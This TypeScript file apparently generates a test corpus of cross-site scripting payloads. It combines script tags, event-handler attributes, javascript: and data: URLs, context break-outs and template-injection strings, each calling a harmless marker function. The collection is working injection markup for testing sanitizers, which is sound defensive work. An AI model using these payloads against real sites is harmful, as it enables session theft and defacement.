/** Texts that would run `ran(N)` in a page that treats them as anything but text. */

/** Markup that runs without any action of the user, or on a click. */
const markup: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg onload=${run}></svg>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<body onload=${run}>`,
  (run) => `<template><img src=x onerror=${run}></template><img src=x onerror=${run}>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
]

/** Places in which a text might appear, and how to break out of them. */
const contexts: readonly ((made: string) => string)[] = [
  (made) => made,
  (made) => `">${made}`,
  (made) => `</textarea></title></style></script>${made}`,
]

/** Texts that run when they become an address, an attribute, a script or a template. */
const otherPayloads: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => ` \u0001javascript:${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => `" onmouseover=${run} x="`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `';${run};//`,
  (run) => `\\';${run};//`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `[x](javascript:${run})`,
  (run) => `</script><script>${run}</script>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
]

export const payloads: readonly string[] = [
  ...contexts.flatMap((embed) => markup.map((made) => (run: string) => embed(made(run)))),
  ...otherPayloads,
].map((made, at) => made(`ran(${at})`))
